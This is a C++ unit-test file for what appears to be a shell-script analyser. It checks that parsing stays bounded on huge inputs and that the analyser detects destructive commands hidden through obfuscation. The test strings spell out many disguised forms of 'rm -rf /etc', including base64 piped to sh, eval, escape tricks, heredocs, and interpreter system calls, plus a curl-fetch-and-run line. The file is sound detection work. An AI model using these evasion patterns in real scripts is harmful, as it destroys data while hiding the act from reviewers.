// Texts that somebody made to cost time or memory, or to hide what they do: reading them ends, and what is made of them is bounded.
// Nothing here is timed: a step too many for each byte would make these run for hours.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "base/text.h"
#include "lower/shell/place.h"
#include "lower/shell/shell.h"

namespace redtag {
namespace {

Model lowered(const std::string& path, const std::string& text) {
  static const FactTables facts = FactTables::builtin();
  return shell_frontend.lower({FileId{0}, Side::After, path, text, 0, false}, LoweringView{facts, 0});
}

std::string repeated(std::string_view what, std::size_t times) {
  std::string out;
  for (std::size_t i = 0; i < times; ++i) out += what;
  return out;
}

std::size_t removals(const Model& model) {
  return static_cast<std::size_t>(std::count_if(model.operations.begin(), model.operations.end(),
                                                [](const Operation& o) { return o.subject && o.program == "rm"; }));
}

/// The path that an operation aims at, without doubled slashes and steps back.
std::string tidy_target(const Operation& operation) { return shell::tidy_path(operation.target.text); }

TEST(ShellHostile, ReadsAMegabyteOnOneLine) {
  EXPECT_EQ(removals(lowered("x.sh", "#!/bin/sh\n" + repeated("rm -rf /srv/x; ", 70'000) + "\n")), 70'000U);
  EXPECT_EQ(removals(lowered("x.sh", "rm -rf " + repeated("a", 1'000'000) + "\n")), 1U);
  const Model piped = lowered("x.sh", repeated("tr a b | ", 20'000) + "sh\n");
  EXPECT_TRUE(std::any_of(piped.operations.begin(), piped.operations.end(),
                          [](const Operation& o) { return o.object == "hidden program"; }) ||
              !piped.gaps.empty());
}

TEST(ShellHostile, BoundsWhatOneWordStandsFor) {
  EXPECT_EQ(removals(lowered("x.sh", "rm -rf " + repeated("{a,b}", 5'000) + "\n")), 1U);
  EXPECT_LE(removals(lowered("x.sh", "rm -rf " + repeated("{a,", 5'000) + "b" + repeated("}", 5'000) + "\n")), 1U);
  EXPECT_EQ(removals(lowered("x.sh", "C=(rm -rf " + repeated("/srv/x ", 100'000) + ")\n\"${C[@]}\"\n")),
            0U);  // too long to be a command
  EXPECT_EQ(removals(lowered("x.sh", "alias a=b\nalias b=a\nalias c='rm -rf'\na /srv/x\nc /srv/y\n")), 1U);
}

TEST(ShellHostile, EndsWhereNothingIsClosed) {
  EXPECT_FALSE(lowered("x.sh", "rm -rf \"/srv\n" + repeated("echo x\n", 20'000)).gaps.empty());
  const Model nested = lowered("x.sh", "echo " + repeated("$(", 5'000) + "rm -rf /" + "\n");
  EXPECT_TRUE(removals(nested) > 0 || !nested.gaps.empty());
  (void)lowered("x.sh", "if (\n" + repeated("{{", 200'000) + "\n");
  (void)lowered("x.sh", "if (\n" + repeated("{%{#", 100'000) + "\n");
}

TEST(ShellHostile, ReadsHugeTablesAndRecipes) {
  std::string jobs, rules = "D ?= /srv\n";
  for (int i = 0; i < 5'000; ++i) {
    jobs += "7 3 * * * root rm -rf /srv/x" + std::to_string(i) + "\n";
    rules += "t" + std::to_string(i) + ":\n\trm -rf $(D)/x\n";
  }
  EXPECT_EQ(removals(lowered("ops/cron.d/jobs", jobs)), 5'000U);
  EXPECT_EQ(removals(lowered("Makefile", rules)), 5'000U);
}

TEST(ShellHostile, SeesThroughDisguise) {
  for (const std::string_view line : {"a=r; b=m; $a$b -rf /etc",
                                      "rm${IFS}-rf${IFS}/etc",
                                      "r\\m -r\\f /etc",
                                      "$'\\x72\\x6d' -rf /etc",
                                      "{rm,-rf,/etc}",
                                      "bash <<< 'rm -rf /etc'",
                                      "echo cm0gLXJmIC9ldGMK | base64 -d | sh",
                                      "eval \"rm -rf /etc\"",
                                      "C=(rm -rf /etc)\n\"${C[@]}\"",
                                      "x=rm; y=x; ${!y} -rf /etc",
                                      "printf -v c '%s' rm\n$c -rf /etc",
                                      "X=RM; ${X,,} -rf /etc",
                                      "source <(echo 'rm -rf /etc')",
                                      "eval \"$(echo 'rm -rf /etc')\"",
                                      "run() { \"$@\"; }\nrun rm -rf /etc",
                                      "coproc rm -rf /etc",
                                      "a=(rm); a+=(-rf /etc); \"${a[@]}\"",
                                      "a=(x rm -rf /etc); \"${a[@]:1}\"",
                                      "a=(rm -rf /etc); eval \"${a[*]}\"",
                                      "a=(rm -rf /etc); ${a[0]} ${a[1]} ${a[2]}",
                                      "declare -A m=([go]=rm); ${m[go]} -rf /etc",
                                      "set -- rm -rf /etc; \"$@\"",
                                      "set -- r m; $1$2 -rf /etc",
                                      "exec 3<<E\nrm -rf /etc\nE\nbash <&3",
                                      "exec 3< <(echo 'rm -rf /etc')\nbash /dev/fd/3",
                                      "cat > /tmp/x <<E\nrm -rf /etc\nE\nbash < /tmp/x",
                                      "cat > /tmp/x <<E\nrm -rf /etc\nE\nssh h bash -s < /tmp/x",
                                      "echo 'rm -rf /etc' | ssh h",
                                      ". /dev/stdin <<E\nrm -rf /etc\nE",
                                      "PROMPT_COMMAND='rm -rf /etc'",
                                      "echo 'rm -rf /etc' > /tmp/x\nBASH_ENV=/tmp/x bash -c true",
                                      "eval \"$(cat <<E\nrm -rf /etc\nE\n)\"",
                                      "x=$(cat <<'E'\nrm -rf /etc\nE\n)\neval \"$x\"",
                                      "read -r x <<< 'rm -rf /etc'\n$x",
                                      "printf -v x '%s %s' rm '-rf /etc'\n$x",
                                      "$(printf 'r%s' m) -rf /etc",
                                      "$(printf '\\x72m') -rf /etc",
                                      "printf '%b' 'rm -rf /etc' | sh",
                                      "declare -n r=t; t=rm; $r -rf /etc",
                                      "parallel rm -rf ::: /etc",
                                      "script -qc 'rm -rf /etc' /dev/null",
                                      "flock /tmp/l -c 'rm -rf /etc'",
                                      "sh -c '\"$0\" \"$@\"' rm -rf /etc",
                                      "sh -c 'rm -rf \"$1\"' _ /etc",
                                      "perl -e 'system(\"r\".\"m -rf /etc\")'",
                                      "perl -e 'system(join(\" \",\"rm\",\"-rf\",\"/etc\"))'",
                                      "python3 -c 'import os; os.system(\" \".join([\"rm\",\"-rf\",\"/etc\"]))'",
                                      "python3 -c 'import os; os.system(\"%s -rf /etc\" % \"rm\")'",
                                      "lua -e 'os.execute(\"rm -rf /etc\")'"}) {
    const Model model = lowered("x.sh", std::string(line) + "\n");
    EXPECT_TRUE(std::any_of(model.operations.begin(), model.operations.end(), [](const Operation& o) {
      return o.program == "rm" && o.target.text == "/etc";
    })) << line;
  }
}

TEST(ShellHostile, SeesThroughWhatTheShellMakesOfWords) {
  for (const std::string_view line :
       {"s=xrmx; ${s:1:2} -rf /etc", "c=rXm; ${c/X/} -rf /etc", "p=/tmp/rm.bak; ${p%.*} -rf /etc",
        "p=xx/rm; ${p##*/} -rf /etc", "p=rm/xx; ${p%%/*} -rf /etc", "r\\\nm -rf /e\\\ntc", "rm$IFS-rf$IFS/etc",
        "rm$IFS$9-rf$IFS$9/etc", "r${x:+y}m$@ -rf /etc", "$(which rm) -rf /etc", "`command -v rm` -rf /etc",
        "rm -rf /tmp/../etc", "cd /tmp && rm -rf ../etc", "rm -rf //var/./lib/../../etc/",
        "c=\"rm -rf $nothing\"; $c /etc", "echo 'rm -rf /etc' | tee log | cat | sh",
        "echo 'rm -rf /etc' | . /dev/stdin", "f() { cmd=\"ssh h $1\"; eval \"$cmd\"; }\nf 'rm -rf /etc'",
        "aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=[\"rm -rf \\\"/etc\\\"\"]'"}) {
    const Model model = lowered("x.sh", std::string(line) + "\n");
    EXPECT_TRUE(std::any_of(model.operations.begin(), model.operations.end(), [](const Operation& o) {
      return o.program == "rm" && tidy_target(o) == "/etc";
    })) << line;
  }
}

TEST(ShellHostile, SaysWhatNobodyCanRead) {
  for (const std::string_view line : {"bash <<< \"$(base64 -d <<< cm0=)\"",
                                      "bash < <(base64 -d x.b64)",
                                      "echo cm0= | base64 -d > x.sh\nsh x.sh",
                                      "echo cm0= | base64 -d > ./x && chmod +x ./x && ./x",
                                      "curl -fsSo /tmp/i.sh https://a.example/i\nbash /tmp/i.sh",
                                      "printf '\\162\\155 -rf /etc' | sh",
                                      "printf '%b' 'r\\155 -rf /etc' | bash",
                                      "echo 'Xm -rf /etc' | sed s/X/r/ | sh",
                                      "list_of_commands | sh",
                                      "awk '{print \"rm \" $1}' names | sh",
                                      "r\xe2\x80\x8bm -rf /etc",
                                      "/bin/r? -rf /etc",
                                      "echo 'rm -rf /etc' | xargs -I{} sh -c '{}'",
                                      "c=$(make_name); $c -rf /etc",
                                      "python3 -c \"import base64,os;os.system(base64.b64decode('cm0=').decode())\"",
                                      "perl -MMIME::Base64 -e 'system(decode_base64(\"cm0=\"))'",
                                      "r\xd0\xbc -rf /etc",
                                      "python3 -c 'import os; os.system(chr(114)+chr(109)+\" -rf /etc\")'",
                                      "/b?n/rm -rf /etc; /bin/r* -rf /etc",
                                      "python3 -c 'import shutil; getattr(shutil, \"rm\" + \"tree\")(\"/etc\")'",
                                      "echo '$C /etc' | C=rm envsubst | sh",
                                      "awk '{print \"rm \" $1 | \"sh\"}' names"}) {
    const Model model = lowered("x.sh", std::string(line) + "\n");
    EXPECT_TRUE(std::any_of(model.operations.begin(), model.operations.end(), [](const Operation& o) {
      return o.action == "unread" && o.object.ends_with(" program");
    })) << line;
  }
  for (const std::string_view line :
       {"echo 'ls' | sh", "cat <<E | sh\nls\nE", "printf 'a\\tb\\n'", "echo cm0= | base64 -d > x.sh\ncat x.sh",
        "sh x.sh", "names | sort | uniq", "python3 -c \"import base64; print(base64.b64decode('cm0='))\"", "ls /bin/r?",
        "d\xc3\xa9ploy x", "\xd1\x81\xd1\x82\xd0\xb0\xd1\x80\xd1\x82 x", "awk '{print $1}' names"}) {
    const Model model = lowered("x.sh", std::string(line) + "\n");
    EXPECT_TRUE(std::none_of(model.operations.begin(), model.operations.end(), [](const Operation& o) {
      return o.action == "unread";
    })) << line;
  }
}

TEST(ShellHostile, BoundsArraysAndWhatIsPrinted) {
  (void)lowered("x.sh", "a=(" + repeated("x ", 50'000) + ")\n\"${a[@]}\"\n");
  (void)lowered("x.sh",
                "a=(\"${a[@]}\")\n\"${a[@]}\"\n" + repeated("a+=(x)\n", 2'000) + repeated("\"${a[@]:1}\"\n", 2'000));
  (void)lowered("x.sh", "a=(\"${b[@]}\")\nb=(\"${a[@]}\")\n\"${a[@]}\" \"${b[*]}\"\n");
  (void)lowered("x.sh", "x=$(printf '" + repeated("%s", 5'000) + "' a)\n$x\n");
  (void)lowered("x.sh", "declare -n a=b\ndeclare -n b=a\nrm -rf $a\n");
  (void)lowered("x.sh", repeated("ln -s /var x\n", 5'000) + repeated("rm -rf x/y\n", 5'000));
  (void)lowered("x.sh", repeated("sh -c 'sh -c \"$1\" _ \"$2\"' _ a\n", 2'000));
}

TEST(ShellHostile, LooksBackAFewCommandsOnly) {
  const Model model = lowered("x.sh", repeated("base64 -d y > z\n", 5'000) + repeated("./x\n", 5'000));
  EXPECT_LE(model.operations.size(), 12'000U);
}

}  // namespace
}  // namespace redtag
